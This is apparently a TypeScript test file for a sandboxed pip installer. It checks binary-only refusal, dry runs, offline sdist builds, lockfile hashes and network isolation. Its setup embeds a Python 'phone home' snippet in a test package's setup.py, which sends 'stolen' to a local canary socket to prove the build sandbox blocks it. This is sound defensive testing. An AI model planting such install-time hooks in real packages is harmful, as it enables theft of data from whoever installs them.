// A real sandboxed pip install: wheels and an sdist from a static index on 127.0.0.1, built offline,
// installed into a fresh virtualenv; the sdist's setup.py tries to phone home and must not get through.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { mkdtemp, readFile, rm, stat } from 'node:fs/promises';
import net from 'node:net';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { DockerodeEngine } from '../../shared/src/sandbox/docker';
import { DEFAULT_LIMITS } from '../../shared/src/sandbox/hardening';
import { sandboxInstall, type InstallRequest } from '../../shared/src/sandbox/installer';
import { spawnProcess } from '../../shared/src/sandbox/local/process';
import { parseLockfile } from '../../shared/src/sandbox/lockfile';
import { requireInfra, testImage } from '../support/infra';
import { buildSdist, buildWheel, serveSimpleIndex, type SimpleIndex } from './pypiFixtures';

let index: SimpleIndex;
let canary: net.Server;
let canaryHits = 0;
let work: string;
let python: string;
let venvError: string | undefined;

before(async () => {
  canary = net.createServer((socket) => { canaryHits++; socket.destroy(); });
  await new Promise<void>((resolve) => canary.listen(0, '127.0.0.1', resolve));
  const port = (canary.address() as AddressInfo).port;
  const phoneHome = `import socket\ntry:\n    socket.create_connection(("127.0.0.1", ${port}), timeout=2).sendall(b"stolen")\nexcept OSError:\n    pass\n`;
  index = await serveSimpleIndex([
    buildWheel('si-alpha', '1.0', { requires: ['si-beta>=1.0'] }),
    buildWheel('si-beta', '1.0'),
    buildSdist('si-gamma', '1.0', { requires: ['si-beta'], setupPyExtra: phoneHome }),
  ]);
  work = await mkdtemp(path.join(os.tmpdir(), 'si-pip-'));
  const venv = await spawnProcess('python3', ['-m', 'venv', path.join(work, '.venv')], { cwd: work, env: process.env });
  if (venv.code !== 0) venvError = `python3 -m venv failed: ${venv.stderr.trim()}`;
  python = path.join(work, '.venv', 'bin', 'python');
});

after(async () => {
  await index.close();
  canary.close();
  await rm(work, { recursive: true, force: true });
});

function request(packages: string[], extra: Partial<InstallRequest> = {}): InstallRequest {
  return { ecosystem: 'PyPI', packages, projectDir: work, dryRun: false, binaryOnly: false, ci: true, networkMode: 'host', registry: index.url, allowScripts: [], limits: { ...DEFAULT_LIMITS, timeoutMs: 300_000 }, images: { PyPI: 'safe-install-test/python:bookworm' }, python, ...extra };
}

async function imports(module: string): Promise<boolean> {
  return (await spawnProcess(python, ['-c', `import ${module}`], { cwd: work, env: process.env })).code === 0;
}

test('--binary-only refuses an sdist and installs nothing', async (t) => {
  if (!requireInfra(t, await testImage('python'))) return;
  if (venvError) return t.skip(venvError);
  const report = await sandboxInstall(request(['si-gamma'], { binaryOnly: true }), { engine: new DockerodeEngine(), run: spawnProcess, env: process.env });
  assert.equal(report.verdict, 'refused', report.message);
  assert.match(report.message, /si-gamma has no wheel.*--binary-only/);
  assert.equal(await imports('si_gamma'), false);
});

test('--dry-run fetches, builds and verifies but installs nothing', async (t) => {
  if (!requireInfra(t, await testImage('python'))) return;
  if (venvError) return t.skip(venvError);
  const report = await sandboxInstall(request(['si-alpha'], { dryRun: true }), { engine: new DockerodeEngine(), run: spawnProcess, env: process.env });
  assert.equal(report.verdict, 'dry-run', report.message);
  assert.deepEqual(report.packages.map((p) => p.name).sort(), ['si-alpha', 'si-beta']);
  assert.equal(await imports('si_alpha'), false);
  await assert.rejects(stat(path.join(work, 'safe-install.lock')));
});

test('wheels and an offline-built sdist are installed into the venv; the sdist never reaches the network', async (t) => {
  if (!requireInfra(t, await testImage('python'))) return;
  if (venvError) return t.skip(venvError);
  const report = await sandboxInstall(request(['si-alpha', 'si-gamma']), { engine: new DockerodeEngine(), run: spawnProcess, env: process.env });
  assert.equal(report.verdict, 'installed', report.message);
  assert.equal(report.installedInto, python);
  for (const module of ['si_alpha', 'si_beta', 'si_gamma']) assert.ok(await imports(module), `${module} imports`);
  assert.equal(canaryHits, 0, 'setup.py ran only in the build phase, which has no network');
  const builds = report.phases.filter((p) => p.phase === 'build');
  assert.ok(builds.length >= 1 && builds.every((p) => p.network === 'none'));
  const lock = parseLockfile(await readFile(path.join(work, 'safe-install.lock'), 'utf8'));
  const gamma = lock.packages.find((p) => p.name === 'si-gamma');
  assert.deepEqual(gamma?.artifacts.map((a) => a.kind).sort(), ['built-wheel', 'sdist']);
  assert.ok(gamma?.artifacts.find((a) => a.kind === 'sdist')?.url?.startsWith(index.url.replace('/simple/', '/files/')));
  const beta = lock.packages.find((p) => p.name === 'si-beta');
  // The recorded hash is that of the exact file the index served.
  assert.equal(beta?.artifacts[0]?.sha256, createHash('sha256').update(buildWheel('si-beta', '1.0').bytes).digest('hex'));
});
